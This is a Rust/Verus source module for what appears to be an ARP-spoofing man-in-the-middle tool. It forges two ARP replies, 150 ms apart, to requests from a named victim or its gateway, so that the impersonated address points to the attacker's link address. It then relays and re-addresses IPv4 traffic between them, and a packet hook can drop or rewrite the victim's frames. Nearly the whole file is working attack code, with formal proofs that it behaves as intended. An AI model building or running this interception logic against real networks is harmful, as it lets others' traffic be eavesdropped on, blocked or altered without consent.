//! The per-frame decisions of the relay: forged ARP replies to requests for
//! impersonated addresses, the packet hook's verdict, and re-addressing of
//! IPv4 traffic between the victim and the gateway.
use vstd::prelude::*;
use crate::arp::{arp_frame, arp_sender_ip, arp_sender_mac, arp_target_ip, is_arp_frame, read_arp, ARPController, ARP_REPLY};
use crate::types::ethernet::{
    eth_destination, eth_payload, eth_source, eth_type, ethertype_of, readdress, readdressed,
    source_of, LuaEthernetPacket, ETHERNET_HEADER_LEN, ETHERTYPE_IPV4,
};
use crate::types::ipv4::{ipv4_destination, ipv4_source};
use crate::wire::{be_bytes, be_value, copy_range, lemma_be_bytes_value, read_u32};

verus! {

/// The gap between the two forged replies to one ARP request, in milliseconds.
pub const REINFORCE_GAP_MS: u64 = 150;

/// What a packet hook decided about a frame.
pub enum EngineResult {
    /// Pass the frame on unchanged.
    Continue,
    /// Transmit nothing for this frame.
    Drop,
    /// Pass on this frame instead.
    Tamper(Vec<u8>),
}

/// A packet hook that raised an error instead of deciding.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub struct HookError;

/// The verdict a hook's reply stands for: the frame it returns, if marked
/// dropped, means Drop; if marked tampered, Tamper with its bytes; anything
/// else, an error included, means Continue.
pub open spec fn verdict_of_reply(reply: Result<Option<LuaEthernetPacket>, HookError>) -> EngineResult {
    match reply {
        Ok(Some(p)) => if p.1 {
            EngineResult::Drop
        } else if p.2 {
            EngineResult::Tamper(p.0)
        } else {
            EngineResult::Continue
        },
        _ => EngineResult::Continue,
    }
}

impl EngineResult {
    /// The verdict a hook's reply stands for.
    pub fn from_hook(reply: Result<Option<LuaEthernetPacket>, HookError>) -> (r: EngineResult)
        ensures
            r == verdict_of_reply(reply),
    {
        match reply {
            Ok(Some(p)) => {
                if p.1 {
                    EngineResult::Drop
                } else if p.2 {
                    EngineResult::Tamper(p.0)
                } else {
                    EngineResult::Continue
                }
            },
            _ => EngineResult::Continue,
        }
    }
}

/// The frame a verdict hands on for transmission, if any.
pub open spec fn verdict_frame(f: Seq<u8>, verdict: EngineResult) -> Option<Seq<u8>> {
    match verdict {
        EngineResult::Continue => Some(f),
        EngineResult::Drop => None,
        EngineResult::Tamper(x) => Some(x@),
    }
}

/// One thing for the relay loop to do.
pub enum RelayAction {
    /// Hand this frame to the sink.
    Transmit(Vec<u8>),
    /// Wait this many milliseconds.
    Pause(u64),
}

/// The relay between a victim and its gateway, with this process in between.
pub struct Relay {
    pub arp: ARPController,
    pub gateway_ip: u32,
    pub gateway_mac: u64,
    pub victim_ip: u32,
    pub victim_mac: u64,
    /// Whether all IPv4 traffic goes to the hook, not only the victim's.
    pub all: bool,
    /// Whether a packet hook is installed.
    pub hooked: bool,
}

/// Whether frame `f` is an IPv4 frame whose IPv4 header can be read.
pub open spec fn is_ipv4_frame(f: Seq<u8>) -> bool {
    f.len() >= ETHERNET_HEADER_LEN && eth_type(f) == ETHERTYPE_IPV4 && eth_payload(f).len() >= 20
}

/// The IPv4 source address of an IPv4 frame.
pub open spec fn frame_ip_source(f: Seq<u8>) -> nat {
    ipv4_source(eth_payload(f))
}

/// The IPv4 destination address of an IPv4 frame.
pub open spec fn frame_ip_destination(f: Seq<u8>) -> nat {
    ipv4_destination(eth_payload(f))
}

/// Whether frame `f` asks for a forged reply: an ARP packet asking for an
/// impersonated address, sent by the gateway or the victim.
pub open spec fn wants_forged_reply(r: Relay, f: Seq<u8>) -> bool {
    &&& is_arp_frame(f)
    &&& r.arp.table().contains(arp_target_ip(f) as u32)
    &&& (arp_sender_ip(f) == r.gateway_ip || arp_sender_ip(f) == r.victim_ip)
}

/// The forged reply to ARP frame `f`: the asked-for address is at this process's link address.
pub open spec fn forged_reply(r: Relay, f: Seq<u8>) -> Seq<u8> {
    arp_frame(
        r.arp.own_mac(),
        arp_sender_mac(f) as u64,
        r.arp.own_mac(),
        arp_target_ip(f) as u32,
        arp_sender_mac(f) as u64,
        arp_sender_ip(f) as u32,
        ARP_REPLY,
    )
}

/// Whether the hook sees frame `f`: a hook is installed and `f` is IPv4
/// traffic from or to the victim, or any IPv4 traffic when `all` is set.
pub open spec fn hook_applies(r: Relay, f: Seq<u8>) -> bool {
    &&& r.hooked
    &&& is_ipv4_frame(f)
    &&& (frame_ip_source(f) == r.victim_ip || frame_ip_destination(f) == r.victim_ip || r.all)
}

/// What the relay retransmits of IPv4 frame `f`: from the victim to anyone but
/// this process, re-addressed to the gateway; from the gateway to the victim,
/// re-addressed to the victim; anything else is absorbed.
pub open spec fn relayed(r: Relay, f: Seq<u8>) -> Option<Seq<u8>> {
    if !is_ipv4_frame(f) {
        None
    } else if eth_source(f) == r.victim_mac && frame_ip_destination(f) != r.arp.own_ip() {
        Some(readdressed(f, r.arp.own_mac(), r.gateway_mac))
    } else if eth_source(f) == r.gateway_mac && frame_ip_destination(f) == r.victim_ip {
        Some(readdressed(f, r.arp.own_mac(), r.victim_mac))
    } else {
        None
    }
}

/// What the relay retransmits of frame `f` when the hook, if it applies, said `verdict`.
pub open spec fn ipv4_outcome(r: Relay, f: Seq<u8>, verdict: EngineResult) -> Option<Seq<u8>> {
    let chosen = if hook_applies(r, f) {
        verdict_frame(f, verdict)
    } else {
        Some(f)
    };
    match chosen {
        Some(g) => relayed(r, g),
        None => None,
    }
}

/// Whether `actions` transmit exactly the frame `out`, once, or nothing when `out` is `None`.
pub open spec fn transmits_once(actions: Seq<RelayAction>, out: Option<Seq<u8>>) -> bool {
    match out {
        Some(g) => actions.len() == 1 && (actions[0] matches RelayAction::Transmit(t) && t@ == g),
        None => actions.len() == 0,
    }
}

/// Re-addressing rewrites the link addresses and nothing else.
pub proof fn lemma_readdressed_fields(f: Seq<u8>, source: u64, destination: u64)
    requires
        f.len() >= ETHERNET_HEADER_LEN,
    ensures
        eth_source(readdressed(f, source, destination)) == source as nat % 0x1_0000_0000_0000,
        eth_destination(readdressed(f, source, destination)) == destination as nat
            % 0x1_0000_0000_0000,
        eth_type(readdressed(f, source, destination)) == eth_type(f),
        eth_payload(readdressed(f, source, destination)) == eth_payload(f),
        readdressed(f, source, destination).len() == f.len(),
{
    let g = readdressed(f, source, destination);
    assert(g.subrange(6, 12) =~= be_bytes(source as nat, 6));
    assert(g.subrange(0, 6) =~= be_bytes(destination as nat, 6));
    assert(g.subrange(12, 14) =~= f.subrange(12, 14));
    assert(eth_payload(g) =~= eth_payload(f));
    lemma_be_bytes_value(source as nat, 6);
    lemma_be_bytes_value(destination as nat, 6);
    crate::wire::lemma_pow256_small();
}

/// Re-addressing: a frame from the victim's link address to an IPv4
/// destination other than this process goes to the gateway's link address
/// from this process's; a frame from the gateway's link address to the
/// victim's IPv4 address goes to the victim's link address from this
/// process's; EtherType and payload stay; every other IPv4 frame is absorbed.
pub proof fn lemma_readdressing(r: Relay, f: Seq<u8>)
    requires
        is_ipv4_frame(f),
        r.arp.own_mac() < 0x1_0000_0000_0000,
        r.gateway_mac < 0x1_0000_0000_0000,
        r.victim_mac < 0x1_0000_0000_0000,
    ensures
        eth_source(f) == r.victim_mac && frame_ip_destination(f) != r.arp.own_ip() ==> (relayed(
            r,
            f,
        ) matches Some(g) && eth_source(g) == r.arp.own_mac() && eth_destination(g)
            == r.gateway_mac && eth_type(g) == eth_type(f) && eth_payload(g) == eth_payload(f)),
        !(eth_source(f) == r.victim_mac && frame_ip_destination(f) != r.arp.own_ip()) && eth_source(
            f,
        ) == r.gateway_mac && frame_ip_destination(f) == r.victim_ip ==> (relayed(r, f) matches Some(
            g,
        ) && eth_source(g) == r.arp.own_mac() && eth_destination(g) == r.victim_mac && eth_type(g)
            == eth_type(f) && eth_payload(g) == eth_payload(f)),
        !(eth_source(f) == r.victim_mac && frame_ip_destination(f) != r.arp.own_ip()) && !(
        eth_source(f) == r.gateway_mac && frame_ip_destination(f) == r.victim_ip) ==> relayed(
            r,
            f,
        ) is None,
{
    lemma_readdressed_fields(f, r.arp.own_mac(), r.gateway_mac);
    lemma_readdressed_fields(f, r.arp.own_mac(), r.victim_mac);
    vstd::arithmetic::div_mod::lemma_small_mod(r.arp.own_mac() as nat, 0x1_0000_0000_0000);
    vstd::arithmetic::div_mod::lemma_small_mod(r.gateway_mac as nat, 0x1_0000_0000_0000);
    vstd::arithmetic::div_mod::lemma_small_mod(r.victim_mac as nat, 0x1_0000_0000_0000);
}

/// Hook verdicts, for a frame the hook applies to: Drop hands nothing on and
/// nothing is transmitted; Tamper hands on exactly the replacement, which is
/// then relayed in place of the frame; a hook error counts as Continue, which
/// hands on the frame unchanged, relayed as if there were no hook.
pub proof fn lemma_hook_verdicts(r: Relay, f: Seq<u8>, x: Vec<u8>, e: HookError)
    requires
        hook_applies(r, f),
    ensures
        verdict_frame(f, EngineResult::Drop) is None,
        ipv4_outcome(r, f, EngineResult::Drop) is None,
        verdict_frame(f, EngineResult::Tamper(x)) == Some(x@),
        ipv4_outcome(r, f, EngineResult::Tamper(x)) == relayed(r, x@),
        verdict_of_reply(Err(e)) == EngineResult::Continue,
        verdict_frame(f, verdict_of_reply(Err(e))) == Some(f),
        ipv4_outcome(r, f, verdict_of_reply(Err(e))) == relayed(r, f),
{
}

impl Relay {
    /// Whether `frame` is an IPv4 frame whose IPv4 header can be read.
    fn is_ipv4(frame: &[u8]) -> (r: bool)
        ensures
            r == is_ipv4_frame(frame@),
    {
        frame.len() >= ETHERNET_HEADER_LEN + 20 && ethertype_of(frame) == ETHERTYPE_IPV4
    }

    /// Whether the packet hook is to see `frame`.
    pub fn wants_hook(&self, frame: &[u8]) -> (r: bool)
        ensures
            r == hook_applies(*self, frame@),
    {
        if !self.hooked || !Relay::is_ipv4(frame) {
            return false;
        }
        let source = read_u32(frame, ETHERNET_HEADER_LEN + 12);
        let destination = read_u32(frame, ETHERNET_HEADER_LEN + 16);
        proof {
            assert(eth_payload(frame@).subrange(12, 16) =~= frame@.subrange(26, 30));
            assert(eth_payload(frame@).subrange(16, 20) =~= frame@.subrange(30, 34));
        }
        source == self.victim_ip || destination == self.victim_ip || self.all
    }

    /// The re-addressed copy of IPv4 frame `frame` to retransmit, if it is
    /// traffic between the victim and the gateway.
    pub fn relay_frame(&self, frame: &[u8]) -> (r: Option<Vec<u8>>)
        ensures
            match relayed(*self, frame@) {
                Some(g) => r matches Some(out) && out@ == g,
                None => r is None,
            },
    {
        if !Relay::is_ipv4(frame) {
            return None;
        }
        let source = source_of(frame);
        let destination = read_u32(frame, ETHERNET_HEADER_LEN + 16);
        proof {
            assert(eth_payload(frame@).subrange(16, 20) =~= frame@.subrange(30, 34));
        }
        if source == self.victim_mac && destination != self.arp.ip() {
            Some(readdress(frame, self.arp.mac(), self.gateway_mac))
        } else if source == self.gateway_mac && destination == self.victim_ip {
            Some(readdress(frame, self.arp.mac(), self.victim_mac))
        } else {
            None
        }
    }

    /// Everything the relay does about one captured frame. `verdict` is what
    /// the hook said about it; it is read only when the hook applies
    /// (`wants_hook`). An ARP request for an impersonated address from the
    /// gateway or the victim is answered twice, with a pause between; an IPv4
    /// frame goes through the verdict and is then re-addressed or absorbed.
    pub fn decide(&self, frame: &[u8], verdict: EngineResult) -> (r: Vec<RelayAction>)
        ensures
            wants_forged_reply(*self, frame@) ==> (r@.len() == 3 && (r@[0] matches RelayAction::Transmit(
                a,
            ) && a@ == forged_reply(*self, frame@)) && r@[1] == RelayAction::Pause(REINFORCE_GAP_MS)
                && (r@[2] matches RelayAction::Transmit(b) && b@ == forged_reply(*self, frame@))),
            !wants_forged_reply(*self, frame@) ==> transmits_once(
                r@,
                ipv4_outcome(*self, frame@, verdict),
            ),
    {
        let mut actions: Vec<RelayAction> = Vec::new();
        match read_arp(frame) {
            Some(a) => {
                if self.arp.is_spoofed(a.target_ip) && (a.sender_ip == self.gateway_ip
                    || a.sender_ip == self.victim_ip) {
                    let own = self.arp.mac();
                    let first = ARPController::build_arp_packet(
                        own,
                        a.sender_mac,
                        own,
                        a.target_ip,
                        a.sender_mac,
                        a.sender_ip,
                        ARP_REPLY,
                    );
                    let second = ARPController::build_arp_packet(
                        own,
                        a.sender_mac,
                        own,
                        a.target_ip,
                        a.sender_mac,
                        a.sender_ip,
                        ARP_REPLY,
                    );
                    actions.push(RelayAction::Transmit(first));
                    actions.push(RelayAction::Pause(REINFORCE_GAP_MS));
                    actions.push(RelayAction::Transmit(second));
                    return actions;
                }
            },
            None => {},
        }
        if !Relay::is_ipv4(frame) {
            return actions;
        }
        let chosen: Option<Vec<u8>> = if self.wants_hook(frame) {
            match verdict {
                EngineResult::Continue => Some(copy_range(frame, 0, frame.len())),
                EngineResult::Drop => None,
                EngineResult::Tamper(x) => Some(x),
            }
        } else {
            Some(copy_range(frame, 0, frame.len()))
        };
        assert(frame@.subrange(0, frame@.len() as int) =~= frame@);
        match chosen {
            Some(g) => match self.relay_frame(&g) {
                Some(out) => {
                    actions.push(RelayAction::Transmit(out));
                },
                None => {},
            },
            None => {},
        }
        actions
    }
}

} // verus!
